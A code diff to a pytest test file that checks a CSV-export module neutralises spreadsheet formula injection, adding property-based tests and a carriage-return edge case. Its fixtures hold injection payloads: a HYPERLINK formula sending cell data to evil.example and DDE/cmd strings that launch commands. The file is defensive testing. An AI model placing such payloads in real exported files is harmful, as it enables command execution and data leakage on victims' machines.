@@ -22,6 +22,8 @@ import zipfile
 
 import click
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 from dashboards.csvsafe import FORMULA_STARTS, csv_text, safe_cell, text_cell
@@ -36,7 +38,7 @@ ROOT = pathlib.Path(__file__).resolve().parents[2]
 NAME = '=HYPERLINK("https://evil.example/?x="&A1;"Voir")'
 OTHER_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
 COMMUNE = "+33 cmd|' /C calc'!A0"
-NOTE = "-2+3+cmd|' /C calc'!A0"
+NOTE = "-2+3+cmd|' /C calc'!A0\r=HYPERLINK(\"https://evil.example\")"  # a CR inside too
 LABEL = "\t=1+1"
 TITLE = "\r=1+1"
 DISPLAY = "=DDE(\"cmd\";\"/C calc\";\"x\")"
@@ -56,7 +58,7 @@ CSV_COMMANDS = {
 #: Modules that write CSV (through dashboards.csvsafe), and the producers above that run them.
 CSV_WRITERS = {"dashboards/export.py", "tracker/csvio.py", "tracker/services/privacy.py",
                "tracker/cli.py"}
-PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?\Z")
+PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?\Z")
 SOURCE_DIRS = ("tracker", "dashboards", "ingest", "firmware_bridge")
 
 
@@ -243,9 +245,18 @@ def test_only_csvsafe_builds_csv_writers():
     ("-3.0", False, "'-3.0"),  # a text column: a name "-3.0" is text
     ("-1+cmd", True, "'-1+cmd"),  # a numeric column never lets a formula through
     (-3.0, False, -3.0), (-2, False, -2), (True, False, "True"),
+    (float("-inf"), False, "'-inf"), (float("nan"), False, "nan"),
 ])
 def test_safe_cell(value, numeric, expected):
     assert safe_cell(value, numeric) == expected
+
+
+def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
+    """The csv module leaves a lone CR unquoted with LF line ends: a spreadsheet then starts a
+    new row at it, and what follows is a cell of its own (found by the property below)."""
+    text = csv_text(["household", "note"], [["Martin", "ok\r=1+1"]])
+    assert text == 'household,note\nMartin,"ok\r=1+1"\n'
+    assert not formula_cells(read_csv(text))
 
 
 def test_negative_reduction_stays_a_number():
@@ -253,3 +264,18 @@ def test_negative_reduction_stays_a_number():
                     numeric=["reduction_pct"])
     assert read_csv(text)[1:] == [["'-Dupont", "-3.0"], ["'" + NAME, "12.5"]]
     assert text_cell("=") == "'="
+
+
+@given(st.lists(st.tuples(st.text(max_size=12), st.floats(width=32),
+                          st.text(alphabet="=+-@\t\r0123456789.,ab", max_size=6)),
+                max_size=5))
+def test_any_text_reads_back_inert_and_whole(rows):
+    """Whatever the texts: no formula cell, and the text is the cell without its `'`."""
+    text = csv_text(["name", "value", "pct"], [[n, v, p] for n, v, p in rows],
+                    numeric=["pct"])
+    back = list(csv.reader(io.StringIO(text, newline="")))[1:]
+    assert not formula_cells(back)
+    for (name, value, pct), (name_cell, value_cell, pct_cell) in zip(rows, back):
+        assert name_cell == ("'" + name if name.startswith(FORMULA_STARTS) else name)
+        assert float(value_cell.removeprefix("'")) == value or value != value  # nan
+        assert pct_cell.removeprefix("'") == pct
